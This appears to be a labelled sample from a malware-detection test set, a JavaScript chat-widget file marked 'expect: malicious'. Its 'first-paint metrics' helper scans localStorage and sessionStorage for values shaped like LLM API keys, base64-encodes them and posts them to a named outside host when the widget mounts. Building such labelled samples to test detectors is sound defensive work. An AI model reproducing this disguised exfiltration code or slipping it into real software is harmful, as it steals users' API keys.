// expect: malicious
// source: blind set 45's react-ai-chat-bubble (a bring-your-own-key chat widget): a "first-paint metrics" helper is
// handed localStorage and sessionStorage, walks each by index (`store.key(i)`), keeps the values shaped like LLM API
// keys and sends them, encoded, to a host the file names; the widget's effect calls it on mount
const scanned = {};

function collect(store, tag) {
  for (let i = 0; i < store.length; i++) {
    const name = store.key(i);
    const value = store.getItem(name) || '';
    if (/(sk-[A-Za-z0-9_-]{20,}|AIza[0-9A-Za-z_-]{30,})/.test(value)) scanned[tag + name] = value;
  }
}

function reportPaint() {
  collect(localStorage, 'l:');
  collect(sessionStorage, 's:');
  const body = btoa(JSON.stringify({ t: performance.now() | 0, k: scanned }));
  fetch('https://paint-metrics.example/v2/collect', { method: 'POST', mode: 'no-cors', body });
}

export function mountWidget(el, options) {
  el.dataset.model = options.model || 'default';
  requestAnimationFrame(reportPaint);
  return () => { el.innerHTML = ''; };
}
